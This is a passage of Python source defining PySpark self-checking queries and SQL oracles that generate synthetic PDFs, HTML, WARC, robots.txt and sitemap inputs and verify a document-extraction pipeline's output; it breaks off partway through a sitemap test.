"""Extraction queries for the driver harness: the flagship roundtrip.

The testdata has no PDF column, so these queries *generate* the pages
corpus from ``documents.text`` inside the same job (distributed, via
mapInPandas — SURVEY.md M0 "synthesize the pages table"), extract it back,
and verify. That makes the whole parse chain oracle-checkable: the oracle
knows what must come out without parsing anything.

- qx01_roundtrip_match: every good-variant doc must extract to its expected
  text -> constant-true oracle. Any parser regression flips rows to false
  and fails the driver's value-hash compare.
- qx02_error_code_histogram: corrupt variants produce a deterministic
  error-code histogram the oracle computes arithmetically.
- qx03_span_geometry: every span of a known-layout variant must land at the
  generator-predicted (page, x, y, size) -> constant-true oracle.

A query that builds one fixture per ``documents.doc_id`` and reads no
other column has the per-document shape, ``tables.per_doc``: the decorated
``_qxNN(doc_id)`` returns that document's rows.
"""

from __future__ import annotations

from typing import Iterator

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F
from pyspark.sql.types import (
    BinaryType,
    BooleanType,
    IntegerType,
    LongType,
    StringType,
    StructField,
    StructType,
)

from pdf_spark.core.extract import extract_document, assemble_text
from pdf_spark.functions.tables import load, map_rows, per_doc
from pdf_spark.gen.pdfgen import N_VARIANTS, _GOOD_VARIANTS, generate_doc
from pdf_spark.operators.extract import extract_spans

QUERIES = {}
ORACLE = {}
_QX03_CACHE: dict[str, DataFrame] = {}

_ROUNDTRIP_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("ok", BooleanType()),
        StructField("variant", StringType()),
    ]
)


def _qx01(spark: SparkSession, sf: str) -> DataFrame:
    docs = load(spark, sf, "documents").select("doc_id", "text")

    def roundtrip(doc_id, text):
        variant = doc_id % N_VARIANTS
        pdf, expected, vname, _ = generate_doc(text or "", variant)
        r = extract_document(pdf)
        got = assemble_text(r.spans) if r.ok else None
        yield {
            "doc_id": doc_id,
            "ok": bool(r.ok and got == expected),
            "variant": vname,
        }

    return map_rows(docs, roundtrip, _ROUNDTRIP_SCHEMA).select("doc_id", "ok")


QUERIES["qx01_roundtrip_match"] = _qx01
ORACLE["qx01_roundtrip_match"] = (
    "SELECT doc_id, CAST('t' AS BOOLEAN) AS ok FROM documents"
)

_ERRHIST_SCHEMA = StructType(
    [
        StructField("error_code", StringType()),
        StructField("n", LongType()),
    ]
)


def _qx02(spark: SparkSession, sf: str) -> DataFrame:
    docs = load(spark, sf, "documents").select("doc_id", "text")

    def corrupt_extract(doc_id, text):
        pdf, _, _, _ = generate_doc(text or "", N_VARIANTS + doc_id % 5)
        yield {"error_code": extract_document(pdf).error_code, "n": 1}

    return (
        map_rows(docs, corrupt_extract, _ERRHIST_SCHEMA)
        .groupBy("error_code")
        .agg(F.sum("n").alias("n"))
    )


QUERIES["qx02_error_code_histogram"] = _qx02
# corrupt class is doc_id % 5 -> the histogram is pure arithmetic
ORACLE["qx02_error_code_histogram"] = """
SELECT CASE doc_id % 5
         WHEN 0 THEN 'INVALID_VERSION'
         WHEN 1 THEN 'INVALID_STARTXREF'
         WHEN 2 THEN 'INVALID_XREF'
         WHEN 3 THEN 'UNSUPPORTED_FILTER'
         ELSE 'UNBALANCED_STR' END AS error_code,
       COUNT(*) AS n
FROM documents GROUP BY 1
"""


_GEOM_SCHEMA = StructType(
    [
        StructField("url", StringType()),
        StructField("html", BinaryType()),
        StructField("n_lines", LongType()),
    ]
)


def _qx03(spark: SparkSession, sf: str) -> DataFrame:
    """Span-geometry self-check (value-hashed, constant-true oracle).

    Builds the td_tj_flate variant for every document, extracts spans
    through the distributed pipeline, and verifies each span's geometry
    *declaratively* against the generator's layout constants
    (gen/pdfgen.py: LEFT_X, TOP_Y, LINE_HEIGHT, FONT_SIZE): span i of a doc
    must sit at (page 0, x=LEFT_X, y=TOP_Y - i*LINE_HEIGHT, size=FONT_SIZE),
    and the span count must equal the wrapped line count the generator
    predicted without parsing anything. Any interpreter positioning
    regression (Td accumulation, Tf size, page indexing, span ordering)
    flips ok to false and fails the driver's value-hash compare.
    """
    from pyspark.sql import Window

    from pdf_spark.gen.pdfgen import (
        FONT_SIZE,
        LEFT_X,
        LINE_HEIGHT,
        TOP_Y,
        wrap_lines,
    )

    docs = load(spark, sf, "documents").select("doc_id", "text")
    td_tj_flate = next(
        i for i, (name, _) in enumerate(_GOOD_VARIANTS) if name == "td_tj_flate"
    )

    def gen(doc_id, text):
        t = text if isinstance(text, str) else ""
        pdf, _, _, _ = generate_doc(t, td_tj_flate)
        yield {
            "url": str(doc_id),
            "html": pdf,
            "n_lines": len(wrap_lines(t)),
        }

    # pages feeds two subtrees (spans + predicted); persist so the PDF
    # build + deflate inside the gen UDF runs once, not once per subtree
    # (previous invocation's cache released on re-entry)
    prev = _QX03_CACHE.pop("pages", None)
    if prev is not None and prev.sparkSession is docs.sparkSession:
        prev.unpersist()
    pages = map_rows(docs, gen, _GEOM_SCHEMA).persist()
    _QX03_CACHE["pages"] = pages
    predicted = pages.select("url", "n_lines")
    spans = extract_spans(pages)
    w = Window.partitionBy("url").orderBy("glyph_order")
    i = F.row_number().over(w) - 1
    geom_ok = (
        (F.col("status") == "ok")
        & (F.col("page") == 0)
        & (F.col("x") == F.lit(LEFT_X))
        & (F.col("y") == F.lit(TOP_Y) - i * F.lit(LINE_HEIGHT))
        & (F.col("size") == F.lit(FONT_SIZE))
    )
    per_doc = (
        spans.withColumn("geom_ok", geom_ok)
        .groupBy("url")
        .agg(F.min("geom_ok").alias("all_ok"), F.count("*").alias("n_spans"))
    )
    return (
        per_doc.join(predicted, "url")
        .select(
            F.col("url").cast("long").alias("doc_id"),
            (F.col("all_ok") & (F.col("n_spans") == F.col("n_lines"))).alias("ok"),
        )
    )


QUERIES["qx03_span_geometry"] = _qx03
ORACLE["qx03_span_geometry"] = (
    "SELECT doc_id, CAST('t' AS BOOLEAN) AS ok FROM documents"
)

_VARIANT_SCHEMA = StructType(
    [
        StructField("variant", StringType()),
        StructField("n", LongType()),
        StructField("n_ok", LongType()),
    ]
)


def _qx04(spark: SparkSession, sf: str) -> DataFrame:
    """Per-variant roundtrip histogram: every generator variant class
    (classic/xref-stream/objstm layouts, filter chains, font/CMap paths,
    inline images, ExtGState...) must extract its expected text for every
    document — the oracle computes the variant histogram arithmetically
    from doc_id % N_VARIANTS and asserts n_ok == n."""
    docs = load(spark, sf, "documents").select("doc_id", "text")

    def per_variant(doc_id, text):
        variant = doc_id % N_VARIANTS
        pdf, expected, vname, _ = generate_doc(text or "", variant)
        r = extract_document(pdf)
        got = assemble_text(r.spans) if r.ok else None
        yield {
            "variant": vname,
            "n": 1,
            "n_ok": int(bool(r.ok and got == expected)),
        }

    return (
        map_rows(docs, per_variant, _VARIANT_SCHEMA)
        .groupBy("variant")
        .agg(
            F.sum("n").cast("long").alias("n"),
            F.sum("n_ok").cast("long").alias("n_ok"),
        )
    )


def _variant_case_sql() -> str:
    whens = "\n         ".join(
        f"WHEN {i} THEN '{name}'" for i, (name, _) in enumerate(_GOOD_VARIANTS)
    )
    return f"CASE doc_id % {N_VARIANTS}\n         {whens}\n       END"


def _qx05(spark: SparkSession, sf: str) -> DataFrame:
    """Layout analysis: paragraph segmentation over span GEOMETRY
    (value-hashed, constant-true oracle).

    The north rule's "layout parse" tier: documents are generated with an
    extra vertical gap after every 4th line; the extractor's spans are then
    segmented *declaratively* — a lag window over y detects breaks where
    the inter-line gap exceeds 1.5x the line height — and the paragraph
    count per document must equal the generator's prediction
    ceil(n_lines/4). Exercises span geometry end to end through window
    functions rather than Python.
    """
    from pyspark.sql import Window

    from pdf_spark.gen.pdfgen import (
        FONT_SIZE,
        LEFT_X,
        LINE_HEIGHT,
        TOP_Y,
        PdfBuilder,
        _n,
        esc,
        wrap_lines,
    )

    docs = load(spark, sf, "documents").select("doc_id", "text")

    def gen(doc_id, text):
        t = text if isinstance(text, str) else ""
        lines = wrap_lines(t)
        ops = [b"BT", b"/F1 " + _n(FONT_SIZE) + b" Tf"]
        for i, line in enumerate(lines):
            # paragraph gap: one extra line height after every 4th
            y = TOP_Y - i * LINE_HEIGHT - (i // 4) * LINE_HEIGHT
            ops.append(b"1 0 0 1 " + _n(LEFT_X) + b" " + _n(y) + b" Tm")
            ops.append(b"(" + esc(line) + b") Tj")
        ops.append(b"ET")
        b = PdfBuilder.one_page()
        font = b.add(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>")
        cont = b.stream(b"\n".join(ops), filters="FlateDecode")
        yield {
            "url": str(doc_id),
            "html": b.build(b.page_tree(font, cont)),
            "n_lines": len(lines),
        }

    prev = _QX03_CACHE.pop("qx05_pages", None)
    if prev is not None and prev.sparkSession is docs.sparkSession:
        prev.unpersist()
    pages = map_rows(docs, gen, _GEOM_SCHEMA).persist()
    _QX03_CACHE["qx05_pages"] = pages
    predicted = pages.select(
        "url", (F.ceil(F.col("n_lines") / 4)).cast("long").alias("n_para_expected")
    )
    spans = extract_spans(pages)
    w = Window.partitionBy("url").orderBy(F.desc("y"))
    gap = F.lag("y").over(w) - F.col("y")
    is_break = F.when(
        gap.isNull() | (gap > 1.5 * LINE_HEIGHT), 1
    ).otherwise(0)
    per_doc = (
        spans.where(F.col("status") == "ok")
        .withColumn("brk", is_break)
        .groupBy("url")
        .agg(F.sum("brk").alias("n_paragraphs"))
    )
    return per_doc.join(predicted, "url").select(
        F.col("url").cast("long").alias("doc_id"),
        (F.col("n_paragraphs") == F.col("n_para_expected")).alias("ok"),
    )


QUERIES["qx05_paragraph_segmentation"] = _qx05
ORACLE["qx05_paragraph_segmentation"] = (
    "SELECT doc_id, CAST('t' AS BOOLEAN) AS ok FROM documents"
)

def _qx06(spark: SparkSession, sf: str) -> DataFrame:
    """HTML boilerplate strip (value-hashed, constant-true oracle).

    The north rule's HTML tier end to end: for every document, build all
    three HTML variants (semantic article, tag soup, table/list carriers),
    extract through the full magic-dispatch path, and verify per doc:

    - the extracted main text equals the generator's expected text
      byte-for-byte (boilerplate gone, payload intact, order preserved);
    - the classifier stripped *exactly* the planted boilerplate: the
      bad-block count is a structural constant of each variant's template,
      independent of the payload, so it is computed once from a probe page
      and must match on every document.
    """
    from pdf_spark.core.htmltext import extract_main_blocks
    from pdf_spark.gen.htmlgen import (
        expected_for_variant,
        html_article,
        html_messy,
        html_table_list,
        html_win1251,
    )
    from pdf_spark.gen.pdfgen import wrap_lines

    docs = load(spark, sf, "documents").select("doc_id", "text")
    variants = (
        ("html_article", html_article),
        ("html_messy", html_messy),
        ("html_table_list", html_table_list),
        ("html_win1251", html_win1251),
    )
    planted = {
        name: sum(
            1
            for b in extract_main_blocks(fn(["probe line"]))
            if b.label == "bad"
        )
        for name, fn in variants
    }

    def check(doc_id, text):
        lines = wrap_lines(text if isinstance(text, str) else "")
        ok = True
        for name, fn in variants:
            data = fn(lines)
            r = extract_document(data)
            got = assemble_text(r.spans) if r.ok else None
            ok = ok and got == expected_for_variant(name, lines)
            n_bad = sum(
                1
                for b in extract_main_blocks(data)
                if b.label == "bad"
            )
            ok = ok and n_bad == planted[name]
        yield {"doc_id": doc_id, "ok": bool(ok)}

    ok_schema = StructType([_ROUNDTRIP_SCHEMA.fields[0], _ROUNDTRIP_SCHEMA.fields[1]])
    return map_rows(docs, check, ok_schema)


QUERIES["qx06_html_boilerplate_strip"] = _qx06
ORACLE["qx06_html_boilerplate_strip"] = (
    "SELECT doc_id, CAST('t' AS BOOLEAN) AS ok FROM documents"
)


_KIND_SCHEMA = StructType(
    [StructField("kind", StringType()), StructField("n", LongType())]
)


def _qx07(spark: SparkSession, sf: str) -> DataFrame:
    """Mixed-corpus payload routing histogram (arithmetic oracle).

    Builds each document's corpus variant and reports which extraction
    tier the magic-byte sniff routes it to. The oracle recomputes the
    histogram purely from ``doc_id % N_VARIANTS`` and the variant
    registry — any sniffing false positive/negative breaks the counts."""
    from pdf_spark.core.extract import payload_kind

    docs = load(spark, sf, "documents").select("doc_id", "text")

    def kinds(doc_id, text):
        payload, _, _, _ = generate_doc(
            text if isinstance(text, str) else "",
            doc_id % N_VARIANTS,
        )
        yield {"kind": payload_kind(payload), "n": 1}

    return (
        map_rows(docs, kinds, _KIND_SCHEMA)
        .groupBy("kind")
        .agg(F.sum("n").cast("long").alias("n"))
    )


_HTML_VARIANT_IDS = [
    i for i, (name, _) in enumerate(_GOOD_VARIANTS) if name.startswith("html_")
]

QUERIES["qx07_payload_type_routing"] = _qx07
ORACLE["qx07_payload_type_routing"] = f"""
SELECT CASE WHEN doc_id % {N_VARIANTS} IN ({", ".join(map(str, _HTML_VARIANT_IDS))})
            THEN 'html' ELSE 'pdf' END AS kind,
       CAST(COUNT(*) AS BIGINT) AS n
FROM documents GROUP BY 1
"""

QUERIES["qx04_variant_coverage"] = _qx04
ORACLE["qx04_variant_coverage"] = f"""
SELECT {_variant_case_sql()} AS variant,
       CAST(COUNT(*) AS BIGINT) AS n,
       CAST(COUNT(*) AS BIGINT) AS n_ok
FROM documents GROUP BY 1
"""


def _qx08(spark: SparkSession, sf: str) -> DataFrame:
    """Link-graph extraction histogram (arithmetic oracle).

    The WAT / crawl-frontier op: every ``<a href>`` of every page, counted
    per target. Each document renders the html_article template, whose
    link set is a payload-independent constant — the oracle is that
    constant's multiset times COUNT(documents), computed from one probe
    page at query-build time so template and oracle cannot drift apart.
    At 10^12 docs this is the same narrow map + one groupBy(href) shape.
    """
    from pdf_spark.core.htmltext import extract_links
    from pdf_spark.gen.htmlgen import html_article
    from pdf_spark.gen.pdfgen import wrap_lines

    docs = load(spark, sf, "documents").select("doc_id", "text")
    schema = StructType(
        [StructField("href", StringType()), StructField("n", LongType())]
    )

    def links(_doc_id, text):
        page = html_article(
            wrap_lines(text if isinstance(text, str) else "")
        )
        for href in extract_links(page):
            yield {"href": href, "n": 1}

    return (
        map_rows(docs, links, schema)
        .groupBy("href")
        .agg(F.sum("n").cast("long").alias("n"))
    )


def _qx08_oracle() -> str:
    from collections import Counter

    from pdf_spark.core.htmltext import extract_links
    from pdf_spark.gen.htmlgen import html_article

    counts = Counter(extract_links(html_article(["probe line"])))
    values = ", ".join(
        "('{}', {})".format(h.replace("'", "''"), c)
        for h, c in sorted(counts.items())
    )
    return f"""
SELECT href, CAST(mult * (SELECT COUNT(*) FROM documents) AS BIGINT) AS n
FROM (VALUES {values}) AS m(href, mult)
"""


QUERIES["qx08_html_link_graph"] = _qx08
ORACLE["qx08_html_link_graph"] = _qx08_oracle()


def _qx09(spark: SparkSession, sf: str) -> DataFrame:
    """Web-table structured extraction (value-hashed, constant-true oracle).

    The WDC-style op: each document renders a page carrying one table of
    ``len(lines)`` rows x 3 cols — (row index, word count, line text) —
    and the extracted (table, row, col, text) cells must reproduce the
    generator's layout exactly: cell count, coordinates, numeric columns
    and the payload text all verified per doc inside the UDF."""
    from html import escape

    from pdf_spark.core.htmltext import extract_tables
    from pdf_spark.gen.pdfgen import wrap_lines

    docs = load(spark, sf, "documents").select("doc_id", "text")
    ok_schema = StructType(
        [_ROUNDTRIP_SCHEMA.fields[0], _ROUNDTRIP_SCHEMA.fields[1]]
    )

    def check(doc_id, text):
        lines = wrap_lines(text if isinstance(text, str) else "")
        rows_html = "".join(
            f"<tr><td>{i}</td><td>{len(l.split())}</td>"
            f"<td>{escape(l)}</td></tr>"
            for i, l in enumerate(lines)
        )
        page = (
            "<!doctype html><html><body><table>"
            + rows_html
            + "</table></body></html>"
        ).encode()
        cells = extract_tables(page)
        exp = []
        for i, l in enumerate(lines):
            exp.append((0, i, 0, str(i)))
            exp.append((0, i, 1, str(len(l.split()))))
            exp.append((0, i, 2, " ".join(l.split())))
        yield {"doc_id": doc_id, "ok": cells == exp}

    return map_rows(docs, check, ok_schema)


QUERIES["qx09_html_table_cells"] = _qx09
ORACLE["qx09_html_table_cells"] = (
    "SELECT doc_id, CAST('t' AS BOOLEAN) AS ok FROM documents"
)


_AUTHORS = ("Ada Lovelace", "Grace Hopper", "Alan Turing", "Edsger Dijkstra")
_LANGS = ("en", "de", "fr")

_META_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("title", StringType()),
        StructField("author", StringType()),
        StructField("created", StringType()),
        StructField("lang", StringType()),
        StructField("canonical", StringType()),
    ]
)


def _qx10(spark: SparkSession, sf: str) -> DataFrame:
    """Document-info metadata extraction, both tiers, VALUE oracle.

    For every document, build a PDF whose trailer ``/Info`` (UTF-16BE
    title, PDFDocEncoding author, ``D:...Z`` date) and an HTML page whose
    head (``<title>``, ``lang``, ``rel=canonical``) carry the same
    doc_id-derived metadata; extract through ``core.meta`` /
    ``extract_html_meta`` and emit the values ONLY where the two tiers
    agree — so the oracle recomputing title/author/created/lang/canonical
    arithmetically from doc_id catches a wrong decode in either tier
    (a disagreement nulls the column and fails the value hash)."""
    from html import escape

    from pdf_spark.core.document import Resolver
    from pdf_spark.core.htmltext import extract_html_meta
    from pdf_spark.core.meta import extract_pdf_meta
    from pdf_spark.gen.pdfgen import (
        F_HELV,
        PdfBuilder,
        _content_td_tj,
        _escb,
        wrap_lines,
    )

    docs = load(spark, sf, "documents").select("doc_id", "text")

    def meta(i, text):
        title = f"Doc {i} 例"
        author = _AUTHORS[i % 4]
        created = (
            f"2024-{1 + i % 12:02d}-{1 + i % 28:02d}"
            f"T{i % 24:02d}:30:00+00:00"
        )
        lang = _LANGS[i % 3]
        canonical = f"https://example.com/doc/{i}"
        lines = wrap_lines(text if isinstance(text, str) else "")

        b = PdfBuilder.one_page()
        font = b.add(F_HELV)
        cont = b.stream(_content_td_tj(lines), filters="FlateDecode")
        t16 = b"\xfe\xff" + title.encode("utf-16-be")
        date = (
            f"D:2024{1 + i % 12:02d}{1 + i % 28:02d}"
            f"{i % 24:02d}3000Z"
        ).encode()
        info = b.add(
            b"<</Title(" + _escb(t16) + b")/Author("
            + author.encode() + b")/CreationDate(" + date + b")>>"
        )
        pdf = b.build(
            b.page_tree(font, cont),
            trailer_extra=b"/Info " + str(info).encode() + b" 0 R",
        )

        page_html = (
            f'<!doctype html><html lang="{lang}"><head>'
            f"<title>{escape(title)}</title>"
            f'<link rel="canonical" href="{canonical}">'
            f'<meta name="author" content="{escape(author)}">'
            "</head><body><p>"
            + escape(" ".join(lines) or "x")
            + "</p></body></html>"
        ).encode()

        pm = extract_pdf_meta(Resolver(pdf))
        hm = extract_html_meta(page_html)
        agree_title = pm["title"] if pm["title"] == hm["title"] else None
        yield {
            "doc_id": i,
            "title": agree_title,
            "author": pm["author"],
            "created": pm["created"],
            "lang": hm["lang"],
            "canonical": hm["canonical"],
        }

    return map_rows(docs, meta, _META_SCHEMA)


QUERIES["qx10_doc_metadata"] = _qx10
ORACLE["qx10_doc_metadata"] = f"""
SELECT doc_id,
       'Doc ' || doc_id || ' 例' AS title,
       CASE doc_id % 4 WHEN 0 THEN '{_AUTHORS[0]}' WHEN 1 THEN '{_AUTHORS[1]}'
                       WHEN 2 THEN '{_AUTHORS[2]}' ELSE '{_AUTHORS[3]}' END AS author,
       printf('2024-%02d-%02dT%02d:30:00+00:00',
              1 + doc_id % 12, 1 + doc_id % 28, doc_id % 24) AS created,
       CASE doc_id % 3 WHEN 0 THEN 'en' WHEN 1 THEN 'de' ELSE 'fr' END AS lang,
       'https://example.com/doc/' || doc_id AS canonical
FROM documents
"""


def _qx11(spark: SparkSession, sf: str) -> DataFrame:
    """PDF link-annotation graph (value oracle) — the PDF twin of qx08.

    Every document's page carries two fixed Link annots (same URIs as the
    corpus ``info_annots`` variant) plus one per-doc URI ``.../doc/{id}``
    and one non-link annot that must be skipped; ``extract_pdf_links``
    walks /Annots -> /A -> /URI through the full resolver and the target
    histogram is grouped exactly like a crawl frontier. The oracle is the
    fixed pair times COUNT(documents) union the per-doc rows."""
    from pdf_spark.core.document import Resolver
    from pdf_spark.core.meta import extract_pdf_links
    from pdf_spark.gen.pdfgen import (
        F_HELV,
        PdfBuilder,
        _content_td_tj,
        wrap_lines,
    )

    docs = load(spark, sf, "documents").select("doc_id", "text")
    schema = StructType(
        [StructField("href", StringType()), StructField("n", LongType())]
    )

    def links(i, text):
        lines = wrap_lines(text if isinstance(text, str) else "")
        b = PdfBuilder.one_page()
        font = b.add(F_HELV)
        cont = b.stream(_content_td_tj(lines), filters="FlateDecode")
        uris = (
            b"https://example.com/next",
            b"https://example.com/refs",
            b"https://example.com/doc/" + str(i).encode(),
        )
        annots = [
            b.add(
                b"<</Type/Annot/Subtype/Link/Rect[0 0 1 1]"
                b"/A<</S/URI/URI(" + u + b")>>>>"
            )
            for u in uris
        ]
        annots.append(
            b.add(b"<</Type/Annot/Subtype/Text/Rect[0 0 1 1]>>")
        )
        pdf = b.build(b.page_tree(font, cont, annots=annots))
        for href in extract_pdf_links(Resolver(pdf)):
            yield {"href": href, "n": 1}

    return (
        map_rows(docs, links, schema)
        .groupBy("href")
        .agg(F.sum("n").cast("long").alias("n"))
    )


QUERIES["qx11_pdf_link_graph"] = _qx11
ORACLE["qx11_pdf_link_graph"] = """
SELECT href, CAST(n AS BIGINT) AS n FROM (
  SELECT 'https://example.com/next' AS href, COUNT(*) AS n FROM documents
  UNION ALL
  SELECT 'https://example.com/refs', COUNT(*) FROM documents
  UNION ALL
  SELECT 'https://example.com/doc/' || doc_id, 1 FROM documents
)
"""


def _qx12(spark: SparkSession, sf: str) -> DataFrame:
    """WARC ingest roundtrip (value oracle) — the container-format edge.

    Per document, write a one-record WARC archive (gzip member, the
    Common-Crawl layout) whose HTTP message exercises a different
    transfer/content-encoding layer combination by ``doc_id % 4``
    (plain / chunked / gzip / chunked+gzip), then parse it back through
    ``sources.warc.records_to_rows``. Emitted url/status/mime come from
    the parsed record; ``ok`` additionally asserts payload byte equality
    through the full decode stack — the oracle recomputes every column
    from doc_id."""
    from html import escape

    from pdf_spark.gen.pdfgen import wrap_lines
    from pdf_spark.sources.warc import build_response_record, records_to_rows, write_warc

    docs = load(spark, sf, "documents").select("doc_id", "text")
    schema = StructType(
        [
            StructField("doc_id", LongType()),
            StructField("url", StringType()),
            StructField("http_status", LongType()),
            StructField("mime", StringType()),
            StructField("ok", BooleanType()),
        ]
    )

    def roundtrip(i, text):
        lines = wrap_lines(text if isinstance(text, str) else "")
        payload = (
            "<html><body><p>"
            + escape(" ".join(lines) or "x")
            + "</p></body></html>"
        ).encode()
        url = f"warc://doc/{i}"
        rec = build_response_record(
            url,
            "2024-01-01T00:00:00Z",
            payload,
            chunked=bool(i % 4 in (1, 3)),
            content_gzip=bool(i % 4 in (2, 3)),
        )
        rows = list(records_to_rows(write_warc([rec])))
        got_url, _, got_payload, status, mime = (
            rows[0] if rows else (None, None, None, 0, "")
        )
        yield {
            "doc_id": i,
            "url": got_url,
            "http_status": int(status),
            "mime": mime,
            "ok": bool(len(rows) == 1 and got_payload == payload),
        }

    return map_rows(docs, roundtrip, schema)


QUERIES["qx12_warc_ingest"] = _qx12
ORACLE["qx12_warc_ingest"] = """
SELECT doc_id,
       'warc://doc/' || doc_id AS url,
       CAST(200 AS BIGINT) AS http_status,
       'text/html' AS mime,
       CAST('t' AS BOOLEAN) AS ok
FROM documents
"""


def _qx13(spark: SparkSession, sf: str) -> DataFrame:
    """PDF outline (bookmark) extraction (value oracle).

    Each document carries an /Outlines tree with 1 + doc_id % 3 chapters,
    each chapter holding one child section; the extracted (position,
    level, title) rows must reproduce the generator's plan exactly —
    titles, nesting levels and display order are all recomputed by the
    oracle from doc_id arithmetic."""
    from pdf_spark.core.document import Resolver
    from pdf_spark.core.meta import extract_pdf_outline
    from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj, wrap_lines

    docs = load(spark, sf, "documents").select("doc_id", "text")
    schema = StructType(
        [
            StructField("doc_id", LongType()),
            StructField("pos", LongType()),
            StructField("level", LongType()),
            StructField("title", StringType()),
        ]
    )

    def outline(i, text):
        n_ch = 1 + i % 3
        b = PdfBuilder.one_page()
        font = b.add(F_HELV)
        cont = b.stream(
            _content_td_tj(wrap_lines(text if isinstance(text, str) else "")),
            filters="FlateDecode",
        )
        root = b.reserve()
        chapters = [b.reserve() for _ in range(n_ch)]
        sections = [b.reserve() for _ in range(n_ch)]
        r = lambda n: str(n).encode() + b" 0 R"
        b.set(
            root,
            b"<</Type/Outlines/First " + r(chapters[0])
            + b"/Last " + r(chapters[-1]) + b">>",
        )
        for c in range(n_ch):
            nxt = b"/Next " + r(chapters[c + 1]) if c + 1 < n_ch else b""
            b.set(
                chapters[c],
                b"<</Title(Chapter " + str(c).encode() + b" of doc "
                + str(i).encode() + b")/Parent " + r(root)
                + b"/First " + r(sections[c]) + b"/Last "
                + r(sections[c]) + nxt + b">>",
            )
            b.set(
                sections[c],
                b"<</Title(Section " + str(c).encode() + b".1)/Parent "
                + r(chapters[c]) + b">>",
            )
        root_id = b.page_tree(font, cont, catalog=b"/Outlines " + r(root))
        items = extract_pdf_outline(Resolver(b.build(root_id)))
        for pos, (level, title) in enumerate(items):
            yield {"doc_id": i, "pos": pos, "level": level, "title": title}

    return map_rows(docs, outline, schema)


QUERIES["qx13_pdf_outline"] = _qx13
# 1 + doc_id % 3 chapters, each with one child section; display order is
# chapter c at pos 2c (level 0), its section at pos 2c+1 (level 1)
ORACLE["qx13_pdf_outline"] = """
SELECT doc_id,
       CAST(2 * c + s AS BIGINT) AS pos,
       CAST(s AS BIGINT) AS level,
       CASE WHEN s = 0 THEN 'Chapter ' || c || ' of doc ' || doc_id
            ELSE 'Section ' || c || '.1' END AS title
FROM documents,
     LATERAL (SELECT unnest(range(0, 1 + doc_id % 3)) AS c),
     LATERAL (SELECT unnest(range(0, 2)) AS s)
"""


def _qx14(spark: SparkSession, sf: str) -> DataFrame:
    """JSON-LD structured-data extraction (value oracle).

    Each document's page embeds one schema.org Article JSON-LD block
    (fields derived from doc_id) next to a plain <script> decoy that must
    be ignored. The UDF only LIFTS the raw JSON strings
    (``extract_jsonld``); field access is declarative ``get_json_object``
    (JVM JsonPath) — at 10^12 docs the JSON parsing happens inside
    codegen, not Python. The oracle recomputes every field from doc_id."""
    from pdf_spark.core.htmltext import extract_jsonld

    docs = load(spark, sf, "documents").select("doc_id", "text")
    raw_schema = StructType(
        [
            StructField("doc_id", LongType()),
            StructField("n_blocks", LongType()),
            StructField("raw", StringType()),
        ]
    )

    import json

    def lift(i, _text):
        ld = json.dumps(
            {
                "@context": "https://schema.org",
                "@type": "Article",
                "headline": f"Headline {i}",
                "author": {"@type": "Person", "name": f"Author {i % 7}"},
                "wordCount": i % 1000,
            }
        )
        page = (
            "<html><head>"
            f'<script type="application/ld+json">{ld}</script>'
            "<script>var decoy = '</p>{\"@type\":\"Fake\"}';</script>"
            "</head><body>x</body></html>"
        ).encode()
        blocks = extract_jsonld(page)
        yield {
            "doc_id": i,
            "n_blocks": len(blocks),
            "raw": blocks[0] if blocks else None,
        }

    lifted = map_rows(docs, lift, raw_schema)
    return lifted.select(
        "doc_id",
        "n_blocks",
        F.get_json_object("raw", "$['@type']").alias("ld_type"),
        F.get_json_object("raw", "$.headline").alias("headline"),
        F.get_json_object("raw", "$.author.name").alias("author"),
        F.get_json_object("raw", "$.wordCount").cast("long").alias("word_count"),
    )


QUERIES["qx14_jsonld"] = _qx14
ORACLE["qx14_jsonld"] = """
SELECT doc_id,
       CAST(1 AS BIGINT) AS n_blocks,
       'Article' AS ld_type,
       'Headline ' || doc_id AS headline,
       'Author ' || (doc_id % 7) AS author,
       CAST(doc_id % 1000 AS BIGINT) AS word_count
FROM documents
"""


_QX15_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("probe", StringType()),
        StructField("allowed", BooleanType()),
    ]
)


@per_doc(QUERIES, "qx15_robots_rules", _QX15_SCHEMA)
def _qx15(i: int) -> Iterator[dict]:
    """robots.txt politeness evaluation (RFC 9309, value oracle).

    Per document, build a robots.txt whose Allow exception rotates with
    doc_id, then evaluate five probes: three /private/ docs (only the
    doc_id%3-th is allowed), a public path (allowed), and a different
    agent that falls into the Disallow-everything '*' group (denied).
    The oracle recomputes all five verdicts arithmetically."""
    from pdf_spark.core.robots import allowed_mask, parse_robots, is_allowed

    robots = (
        "User-agent: trainbot\n"
        "Disallow: /private/\n"
        f"Allow: /private/doc{i % 3}.html\n"
        "\n"
        "User-agent: *\n"
        "Disallow: /\n"
    ).encode()
    paths = [f"/private/doc{j}.html" for j in range(3)] + ["/public/x"]
    verdicts = allowed_mask(robots, "trainbot/1.0", paths)
    verdicts.append(
        is_allowed(parse_robots(robots), "otherbot", "/public/x")
    )
    for probe, allowed in zip(("p0", "p1", "p2", "pub", "other"), verdicts):
        yield {"probe": probe, "allowed": bool(allowed)}


ORACLE["qx15_robots_rules"] = """
SELECT doc_id, probe,
       CASE probe
         WHEN 'p0' THEN doc_id % 3 = 0
         WHEN 'p1' THEN doc_id % 3 = 1
         WHEN 'p2' THEN doc_id % 3 = 2
         WHEN 'pub' THEN CAST('t' AS BOOLEAN)
         ELSE CAST('f' AS BOOLEAN)
       END AS allowed
FROM documents,
     LATERAL (SELECT unnest(['p0','p1','p2','pub','other']) AS probe)
"""


_QX16_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("pos", LongType()),
        StructField("loc", StringType()),
        StructField("lastmod", StringType()),
        StructField("n_index_children", LongType()),
    ]
)


@per_doc(QUERIES, "qx16_sitemap_frontier", _QX16_SCHEMA)
def _qx16(i: int) -> Iterator[dict]:
    """Sitemap frontier extraction (value oracle).

    Per document, parse a gzip-wrapped <urlset> sitemap whose entry count
    (2 + doc_id % 4) and lastmod dates rotate with doc_id, plus a
    <sitemapindex> whose child pointer must be classified (not mixed into
    the frontier). Emitted rows are the frontier entries; the oracle
    recomputes loc/lastmod/kind arithmetically."""
    import gzip as _gz

    from pdf_spark.core.sitemap import parse_sitemap

    n = 2 + i % 4
    urls = "".join(
